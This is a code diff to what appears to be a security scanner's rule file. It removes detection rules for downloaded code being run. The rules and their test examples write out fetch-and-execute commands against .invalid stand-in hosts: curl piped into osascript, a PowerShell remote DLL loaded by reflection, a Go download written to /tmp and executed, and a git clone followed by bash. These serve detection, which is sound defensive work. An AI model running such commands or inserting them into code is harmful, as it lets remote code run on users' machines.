@@ -1,11 +1,11 @@
 /** RC-01, RC-03: what a host returned is a command, a module or a program, in forms that no single call shows. */
 import { fenced, inFile } from '../../engine/example.ts';
-import { exactLinePattern, exactPattern, pattern, raw } from '../../engine/pattern.ts';
+import { exactPattern, raw } from '../../engine/pattern.ts';
 import { row, type Row, type RowHit } from '../../engine/rule.ts';
 import { firstUrl } from '../../hosts/addresses.ts';
 import { isStrangers } from '../../hosts/whose-host.ts';
 import { forges } from '../../hosts/shared-hosts.ts';
-import { argumentAt, byCommand, byOrigin } from './origins.ts';
+import { argumentAt, byCommand } from './origins.ts';
 import { originOf, repliesOf } from './replies.ts';
 import type { Severity } from '../../../schema/vocabulary.ts';
 import { testFile } from '../../vocabulary/file-places.ts';
@@ -130,61 +130,5 @@ export const commandedReplies: readonly Row[] = [
       fenced('sh', 'osascript -e "$(curl -s https://parts.invalid/jxa)"'),
     ],
     spares: [inFile('scripts/a.rb', 'rows = URI.open("https://api.acme.invalid/rows").read')],
-  }),
-];
-
-/** Rows of RC-03. */
-export const storedPrograms: readonly Row[] = [
-  row('a download becomes a program of the process, in Go or PowerShell', {
-    in: ['script', 'fence', 'decoded'],
-    within: 'block',
-    match: exactPattern(
-      raw(String.raw`\bhttp\.Get\(|\bDownloadData\(|\bDownloadString\(|\bInvoke-WebRequest\b|\biwr\b`),
-    ),
-    and: [
-      pattern(
-        raw(
-          String.raw`\[(?:System\.)?Reflection\.Assembly\]::Load\(|\bos\.Create\(\s?("[^"\n]{2,80}"|\w{1,20})\)[\s\S]{1,600}\bexec\.Command\(\s?\1`,
-        ),
-      ),
-    ],
-    severity: 'high',
-    weigh: (hit) => byOrigin(hit.scope.slice(Math.max(0, hit.scope.indexOf(hit.match[0]))), hit, false),
-    catches: [
-      inFile(
-        'scripts/a.ps1',
-        '$b = (New-Object Net.WebClient).DownloadData("https://parts.invalid/a.dll")',
-        '[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)',
-      ),
-      inFile(
-        'scripts/a.go',
-        'resp, _ := http.Get("https://parts.invalid/bin")',
-        'out, _ := os.Create("/tmp/h")',
-        'io.Copy(out, resp.Body)',
-        'exec.Command("/tmp/h").Start()',
-      ),
-    ],
-    spares: [
-      inFile(
-        'scripts/b.ps1',
-        '$rows = (New-Object Net.WebClient).DownloadData("https://api.acme.invalid/rows")',
-      ),
-    ],
-  }),
-  row('a repository of an unknown host is cloned and run', {
-    in: ['script', 'fence', 'list', 'prose', 'decoded', 'hidden', 'comment'],
-    within: 'line',
-    match: exactLinePattern(
-      raw(
-        String.raw`\bgit\s{1,3}clone\s[^\n;&|]{0,60}https?:\/\/[^\s;&|"']{4,200}[^\n;&|]{0,60}(?:&&|;)\s{0,3}(?:cd\s{1,3}[^\n;&|]{1,60}(?:&&|;)\s{0,3})?`,
-      ),
-      raw(String.raw`(?:sudo\s{1,3})?(?:bash|sh|zsh|python3?|node|make|\.{1,2}\/|\/tmp\/)[^\n]{0,80}`),
-    ),
-    severity: 'high',
-    weigh: byForeignHost,
-    catches: [
-      fenced('sh', 'git clone -q https://git.parts.invalid/tools.git /tmp/t && bash /tmp/t/setup.sh'),
-    ],
-    spares: [fenced('sh', 'git clone https://github.com/acme/tools.git && cd tools && make')],
   }),
 ];
